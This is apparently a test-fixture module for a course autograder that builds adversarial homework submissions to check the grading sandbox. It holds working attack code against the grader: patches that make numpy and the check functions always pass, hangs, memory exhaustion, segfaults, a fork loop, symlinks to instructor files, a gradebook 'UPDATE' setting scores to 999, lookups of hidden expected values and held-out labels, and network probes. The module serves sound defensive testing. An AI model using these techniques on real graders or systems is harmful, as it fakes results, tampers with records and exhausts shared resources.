"""Adversarial hw5 submissions: the instructor's solution plus code that attacks the grader.

Each attack is source appended to the submission's ``nndl/conv_layers.py``; what it
appends runs when the notebook imports the module, inside the grading kernel. A function
redefined at the end of the file replaces the one above it.

``ATTACKS`` maps a student id to (base sample, appended code). Faults that would hit every
later test too (kernel death, memory) strike at the first call only: a flag file in the
submission folder (the one writable place) lets later calls, in the fresh kernel, work.
"""
import json
import os
from pathlib import Path

FIRST_CALL_ONLY = '''

_original_{name} = {name}


def {name}(*args, **kwargs):
    import os as _os
    flag = ".attacked_{name}"
    if not _os.path.exists(flag):
        open(flag, "w").close()
{body}
    return _original_{name}(*args, **kwargs)
'''


def first_call(name, body):
    """Redefine ``name`` so that its first call runs ``body`` (indented 8 spaces)."""
    body = "\n".join("        " + line for line in body.strip().splitlines())
    return FIRST_CALL_ONLY.format(name=name, body=body)


WRONG_CONV = '''

_right_conv_forward_naive = conv_forward_naive


def conv_forward_naive(x, w, b, conv_param):
    out, cache = _right_conv_forward_naive(x, w, b, conv_param)
    return out + 1.0, cache
'''

PATCH_AT_IMPORT = WRONG_CONV + '''
import builtins
import numpy
import numpy.testing
import utils.checks

numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(a, b).shape, bool)
numpy.testing.assert_allclose = lambda *a, **k: None
utils.checks.check_close = lambda *a, **k: None
utils.checks.check_true = lambda *a, **k: None
builtins.abs = lambda x: 0 * x
'''

PATCH_PER_CALL = '''

_right_conv_forward_naive = conv_forward_naive


def _passes(case, name, got, expected, rtol=1e-6, atol=1e-8):
    return None


def conv_forward_naive(x, w, b, conv_param):
    import utils.checks
    utils.checks.check_close.__code__ = _passes.__code__
    out, cache = _right_conv_forward_naive(x, w, b, conv_param)
    return out + 1.0, cache
'''

HANG = '''

def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
    while True:
        pass
'''

DEAF = first_call("spatial_batchnorm_forward", """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    time.sleep(0.1)
""")

OOM = first_call("conv_backward_naive", """
import numpy as np
hog = []
while True:
    hog.append(np.ones(2**25))
""")

EXIT = first_call("max_pool_forward_naive", "_os._exit(3)")

SEGFAULT = first_call("avg_pool_forward_naive", "import ctypes\nctypes.string_at(0)")

SYNTAX = "\n\ndef broken(:\n    pass\n"

SNOOP = '''

def _snoop(course, repo, port):
    """Look for everything the grader hides, try to change it, report what worked."""
    import errno, glob, importlib.util, json, os, socket, sqlite3, sys
    report = {"found": [], "wrote": [], "solution_imported": False, "network": {}, "forks": 0}
    wanted = [f"{course}/gradebook.db", f"{course}/source/hw5/*.ipynb",
              f"{course}/autograded/*/hw5/nndl/conv_layers.py", f"{course}/submitted/*/hw5/*",
              f"{repo}/nndl/conv_layers.py", f"{repo}/source/hw5/*.ipynb"]
    own = os.getcwd()
    for pattern in wanted:
        report["found"] += [p for p in glob.glob(pattern) if not p.startswith(own + "/")]
    for path in glob.glob("**/*", recursive=True):  # own folder, links included
        if path.startswith("nndl" + os.sep):
            continue  # the student's own modules (this one names what it looks for)
        try:
            text = open(path, errors="replace").read()
        except OSError:
            continue
        if "BEGIN HIDDEN TESTS" in text or "SQLite format" in text or "def conv_forward_naive" in text:
            report["found"].append(path)
    # the instructor's solution: the editable-install hook names its folder
    candidates = [f"{repo}/nndl"]
    for folder in sys.path:
        for hook in glob.glob(os.path.join(folder, "__editable__*finder.py")):
            text = open(hook).read()
            candidates += [line.split("'")[3] for line in text.splitlines() if "'nndl':" in line]
    sys.path.insert(0, repo)
    for folder in candidates:
        try:
            spec = importlib.util.spec_from_file_location("stolen", f"{folder}/conv_layers.py")
            stolen = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(stolen)
        except Exception:
            continue
        report["solution_imported"] = True
        globals().update({k: v for k, v in vars(stolen).items() if k.endswith("_naive")})
    for path in [f"{course}/gradebook.db", f"{course}/source/hw5/evil.txt",
                 f"{course}/autograded/complete/hw5/nndl/conv_layers.py",
                 f"{course}/submitted/complete/hw5/evil.txt", f"{repo}/nndl/evil.py", "/usr/evil"]:
        try:
            with open(path, "a") as f:
                f.write("")
            report["wrote"].append(path)
        except OSError:
            pass
    try:
        db = sqlite3.connect(f"file:{course}/gradebook.db?mode=rw", uri=True, timeout=1)
        db.execute("UPDATE grade SET auto_score = 999")
        db.commit()
        report["wrote"].append("gradebook rows")
    except Exception:
        pass
    for host, p in [("127.0.0.1", port), ("192.0.2.1", 80)]:  # the test's listener; TEST-NET-1
        s = socket.socket()
        s.settimeout(3)
        try:
            s.connect((host, p))
            report["network"][host] = "CONNECTED"
        except OSError as err:
            report["network"][host] = errno.errorcode.get(err.errno, str(err))
        finally:
            s.close()
    children = []
    try:
        for _ in range(500):
            pid = os.fork()
            if pid == 0:
                import time
                time.sleep(3)
                os._exit(0)
            children.append(pid)
    except OSError:
        pass
    report["forks"] = len(children)
    for pid in children:
        os.waitpid(pid, 0)
    with open("attack_report.json", "w") as f:
        json.dump(report, f)


_snoop(__COURSE__, __REPO__, __PORT__)
'''

# --- Ways to get points without doing the work (issue #13) ----------------------------------
# Each starts from the untouched release ("empty"), so in the cells it targets it must score
# no more than the release does (0). TARGETS gives those cells, by grade id prefix.

DELEGATE_DIRECT = '''

def conv_forward_naive(x, w, b, conv_param):
    from utils.fast_layers import conv_forward_fast
    return conv_forward_fast(x, w, b, conv_param)


def conv_backward_naive(dout, cache):
    from utils.fast_layers import conv_backward_fast
    return conv_backward_fast(dout, cache)


def max_pool_forward_naive(x, pool_param):
    from utils.fast_layers import max_pool_forward_fast
    return max_pool_forward_fast(x, pool_param)


def max_pool_backward_naive(dout, cache):
    from utils.fast_layers import max_pool_backward_fast
    return max_pool_backward_fast(dout, cache)
'''

DELEGATE_IMPORTLIB = '''

def _fast(name):
    import importlib
    return getattr(importlib.import_module("utils.fast_layers"), name)


def conv_forward_naive(x, w, b, conv_param):
    return _fast("conv_forward_fast")(x, w, b, conv_param)


def conv_backward_naive(dout, cache):
    return _fast("conv_backward_fast")(dout, cache)


def max_pool_forward_naive(x, pool_param):
    return _fast("max_pool_forward_fast")(x, pool_param)


def max_pool_backward_naive(dout, cache):
    return _fast("max_pool_backward_fast")(dout, cache)
'''

# captured at import time, through sys.modules (the sandwich layers import the fast ones)
DELEGATE_SYS_MODULES = '''

import sys as _sys
import nndl.conv_layer_utils  # noqa: F401  (puts utils.fast_layers into sys.modules)

_FAST = {name: getattr(_sys.modules["utils.fast_layers"], name) for name in (
    "conv_forward_fast", "conv_backward_fast", "max_pool_forward_fast", "max_pool_backward_fast")}


def conv_forward_naive(x, w, b, conv_param):
    return _FAST["conv_forward_fast"](x, w, b, conv_param)


def conv_backward_naive(dout, cache):
    return _FAST["conv_backward_fast"](dout, cache)


def max_pool_forward_naive(x, pool_param):
    return _FAST["max_pool_forward_fast"](x, pool_param)


def max_pool_backward_naive(dout, cache):
    return _FAST["max_pool_backward_fast"](dout, cache)
'''

# the hidden test's reference, from __main__, the callers' frames or the garbage collector;
# a result that reads the expected value from the check's frame when turned into an array
REFERENCE_LOOKUP = '''

def _found(name):
    import __main__, gc, sys
    candidates = [getattr(__main__, name, None)]
    frame = sys._getframe(1)
    while frame is not None:
        candidates += [frame.f_locals.get(name), frame.f_globals.get(name)]
        frame = frame.f_back
    candidates += [obj for obj in gc.get_objects()
                   if callable(obj) and getattr(obj, "__name__", None) == name]
    return [c for c in candidates if callable(c)]


class _Expected:
    """Becomes whatever the check that converts it holds as 'expected'."""

    def __array__(self, dtype=None, copy=None):
        import sys
        import numpy
        frame = sys._getframe(1)
        while frame is not None:
            if "expected" in frame.f_locals and frame.f_locals["expected"] is not self:
                return numpy.asarray(frame.f_locals["expected"], dtype=dtype)
            frame = frame.f_back
        return numpy.zeros(1)


def conv_forward_naive(x, w, b, conv_param):
    pair = lambda v: v if isinstance(v, tuple) else (v, v)
    for reference in _found("reference_conv"):
        try:
            out = reference(x, w, b, pair(conv_param["stride"]), pair(conv_param["pad"]))
        except Exception:
            continue
        return out, None
    return _Expected(), None


def max_pool_forward_naive(x, pool_param):
    window = (pool_param["pool_height"], pool_param["pool_width"])
    stride = pool_param["stride"]
    for reference in _found("reference_pool"):
        try:
            out = reference(x, window, (stride, stride) if isinstance(stride, int) else stride, "max")
        except Exception:
            continue
        return out, None
    return _Expected(), None
'''

# numpy's comparison and reduction functions replaced when the module is imported, and
# again at every call; the layers themselves return zeros
NUMPY_PATCH = '''

import numpy as _np


def _patch():
    _np.abs = lambda x, *a, **k: 0 * _np.asarray(x)
    _np.allclose = lambda *a, **k: True
    _np.mean = lambda *a, **k: 1.0
    _np.argmax = lambda a, *r, **k: _np.zeros(len(a), dtype=int)


_patch()


def conv_forward_naive(x, w, b, conv_param):
    _patch()
    return _np.zeros((x.shape[0], w.shape[0], x.shape[2], x.shape[3])), None


def max_pool_forward_naive(x, pool_param):
    _patch()
    return _np.zeros((x.shape[0], x.shape[1], x.shape[2] // 2, x.shape[3] // 2)), None
'''

# An untrained model (random weights) whose loss looks the labels up in the held-out data,
# wherever it can find them; it reports what it found.
LABEL_LOOKUP = '''

def _heldout_labels():
    import glob, json, os, pickle
    found = []
    roots = [os.environ.get("NNDL_DATA", ""), "datasets", "data_sample", "/data", "/tmp",
             os.path.expanduser("~")]
    for root in filter(None, roots):
        found += glob.glob(os.path.join(root, "**", "test_batch"), recursive=True)
    with open("label_report.json", "w") as f:
        json.dump({"found": found, "NNDL_DATA": os.environ.get("NNDL_DATA")}, f)
    for path in found:
        try:
            with open(path, "rb") as f:
                return pickle.load(f, encoding="latin1")["labels"]
        except Exception:
            continue
    return None


_honest_loss = ThreeLayerConvNet.loss


def _lookup_loss(self, X, y=None):
    labels = _heldout_labels()
    if y is None and labels is not None and len(X) <= 200:
        import numpy
        start = getattr(self, "_seen", 1000)
        self._seen = start + len(X)
        scores = numpy.zeros((len(X), 10))
        scores[numpy.arange(len(X)), numpy.asarray(labels[start:start + len(X)])] = 1.0
        return scores
    return _honest_loss(self, X, y)


ThreeLayerConvNet.loss = _lookup_loss
'''

# student id -> cells it targets (grade id prefixes) for the comparison with the release
TARGETS = {
    "delegate": ("test_conv_forward_", "test_conv_backward_", "test_max_pool_"),
    "delegate_importlib": ("test_conv_forward_", "test_conv_backward_", "test_max_pool_"),
    "delegate_sysmodules": ("test_conv_forward_", "test_conv_backward_", "test_max_pool_"),
    "references": ("test_conv_forward_", "test_max_pool_forward_"),
    "numpy_patch": ("test_conv_forward_", "test_max_pool_forward_"),
    "labels": ("test_cifar10_model",),
}
# extra code appended to nndl/cnn.py, and students whose model file is an untrained one
CNN_CODE = {"labels": LABEL_LOOKUP}
UNTRAINED_MODEL = {"labels"}

# student id -> (sample it starts from, code appended to nndl/conv_layers.py)
ATTACKS = {
    "hang": ("complete", HANG),
    "deaf": ("complete", DEAF),
    "oom": ("complete", OOM),
    "exit": ("complete", EXIT),
    "segfault": ("complete", SEGFAULT),
    "syntax": ("complete", SYNTAX),
    "nocells": ("complete", ""),
    "wrong_conv": ("complete", WRONG_CONV),
    "patch": ("complete", PATCH_AT_IMPORT),
    "repatch": ("complete", PATCH_PER_CALL),
    "snoop": ("empty", SNOOP),
    "delegate": ("empty", DELEGATE_DIRECT),
    "delegate_importlib": ("empty", DELEGATE_IMPORTLIB),
    "delegate_sysmodules": ("empty", DELEGATE_SYS_MODULES),
    "references": ("empty", REFERENCE_LOOKUP),
    "numpy_patch": ("empty", NUMPY_PATCH),
    "labels": ("complete", ""),
}


def make_attack(student, release_dir, dest, course, repo, port):
    """Write the submission of attacker ``student`` into ``dest``."""
    import nbformat
    from grading.classroom.samples import make_sample

    base, code = ATTACKS[student]
    make_sample(base, release_dir, dest)
    module = Path(dest) / "nndl" / "conv_layers.py"
    code = (code.replace("__COURSE__", repr(str(course))).replace("__REPO__", repr(str(repo)))
            .replace("__PORT__", str(port)))
    module.write_text(module.read_text() + code)
    if student in CNN_CODE:
        cnn = Path(dest) / "nndl" / "cnn.py"
        cnn.write_text(cnn.read_text() + CNN_CODE[student])
    if student in UNTRAINED_MODEL:   # the sample's architecture with random weights
        import numpy as np
        from grading.authoring.course import MODEL_FILE
        from nndl.model_io import read_model_file, save_model
        model = read_model_file(Path(dest) / MODEL_FILE)
        rng = np.random.default_rng(0)
        params = {name: (1e-2 * rng.standard_normal(value.shape) if name.startswith("W") else value)
                  .astype(np.float32) for name, value in model["params"].items()}
        save_model(Path(dest) / MODEL_FILE, params, model["bn_state"], model["config"],
                   {"full_run": True})
    if student == "nocells":  # every test cell deleted
        for path in Path(dest).glob("*.ipynb"):
            nb = nbformat.read(path, as_version=4)
            nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")
                        or c.metadata["nbgrader"].get("solution")]
            nbformat.write(nb, path)
    if student == "snoop":  # links that nbgrader's copy would follow with the instructor's rights
        links = {"peek.txt": Path(course) / "source" / "hw5" / "ConvolutionalNetworks.ipynb",
                 "grades.txt": Path(course) / "gradebook.db",
                 "solution.txt": Path(repo) / "nndl" / "conv_layers.py"}
        for name, target in links.items():
            os.symlink(target, Path(dest) / name)
    return dest


def read_label_report(autograded_dir):
    """What the label-lookup attack found inside the sandbox, or None if it never ran."""
    path = Path(autograded_dir) / "label_report.json"
    return json.loads(path.read_text()) if path.exists() else None


def read_report(autograded_dir):
    """The snoop attack's report, or None if it did not get to write one."""
    path = Path(autograded_dir) / "attack_report.json"
    return json.loads(path.read_text()) if path.exists() else None
